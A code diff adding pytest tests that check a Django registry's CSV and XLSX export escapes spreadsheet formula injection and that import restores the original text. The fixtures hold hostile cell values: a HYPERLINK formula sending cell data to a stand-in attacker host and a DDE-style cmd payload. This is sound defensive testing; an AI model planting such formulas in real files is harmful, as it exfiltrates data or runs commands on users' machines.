@@ -390,3 +390,68 @@ def test_export_then_import_gives_the_same_registry(people, tmp_path, name):
 def test_export_to_an_unwritable_place_fails_clearly(db, tmp_path):
     with pytest.raises(CommandError, match="cannot write"):
         call_command("export_use_cases", str(tmp_path / "missing-dir" / "out.csv"), stdout=io.StringIO())
+
+
+# Cells a spreadsheet would run (formula injection) -------------------------------------------------
+
+# OWASP's CSV injection guidance: a cell starting with = + - @ TAB or CR is run as a formula by
+# spreadsheets. The export writes such a cell (and one already starting with ') with a leading
+# ', and the import takes exactly that one ' off again.
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+RISKY = {
+    "FIN-1": {"title": FORMULA_TITLE, "summary": "+1+1", "capability": "-2+3"},
+    "FIN-2": {"title": "@SUM(1+1)*cmd|' /C calc'!A0", "summary": "'quoted already", "capability": "''twice"},
+    "CS-1": {"title": "'=not a formula, as typed", "summary": "-", "capability": "@"},
+}
+
+
+def _make_risky():
+    for key, values in RISKY.items():
+        UseCase.objects.filter(external_id=key).update(**values)
+    Decision.objects.filter(statement__startswith="How much cash").update(statement="=1+1 cash next month?")
+    BusinessUnit.objects.filter(name="Customer Service").update(name="@Customer Service")
+
+
+def _exported_cells(path):
+    if path.suffix == ".xlsx":
+        from openpyxl import load_workbook
+
+        workbook = load_workbook(path)
+        cells = [cell for row in workbook.worksheets[0].iter_rows() for cell in row]
+        assert {cell.data_type for cell in cells if cell.value is not None} == {"s"}  # text, never a formula
+        return [cell.value or "" for cell in cells]
+    import csv
+
+    return [cell for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")) for cell in row]
+
+
+@pytest.mark.parametrize("name", ["export.csv", "export.xlsx"])
+def test_an_export_holds_no_live_formula_and_imports_back_unchanged(people, tmp_path, name):
+    run("import_use_cases", write_csv(tmp_path, GOOD_ROWS))
+    _make_risky()
+    before = registry_snapshot()
+    exported = tmp_path / name
+
+    run("export_use_cases", exported)
+    out, _ = run("import_use_cases", exported)
+
+    cells = _exported_cells(exported)
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    for value in (FORMULA_TITLE, "+1+1", "-2+3", "'quoted already", "''twice", "'=not a formula, as typed", "-", "@",
+                  "=1+1 cash next month?", "@Customer Service"):
+        assert "'" + value in cells, value
+    assert "0 use cases were created, 0 updated, 3 unchanged" in out
+    assert registry_snapshot() == before
+    assert UseCase.objects.get(external_id="FIN-1").title == FORMULA_TITLE
+
+
+def test_a_hand_made_file_with_excels_quote_prefix_imports_the_text_after_it(people, tmp_path):
+    lines = [HEADER,
+             "FIN-1,'=1+1,'Twas a summary,'-,Finance,Which invoices are paid early this week?,,,,,,,",
+             "FIN-2,''quoted,'@x,-,Finance,How much cash do we hold next month?,,,,,,,"]
+
+    run("import_use_cases", write_csv(tmp_path, lines))
+
+    first, second = UseCase.objects.get(external_id="FIN-1"), UseCase.objects.get(external_id="FIN-2")
+    assert (first.title, first.summary, first.capability) == ("=1+1", "'Twas a summary", "-")
+    assert (second.title, second.summary, second.capability) == ("'quoted", "@x", "-")
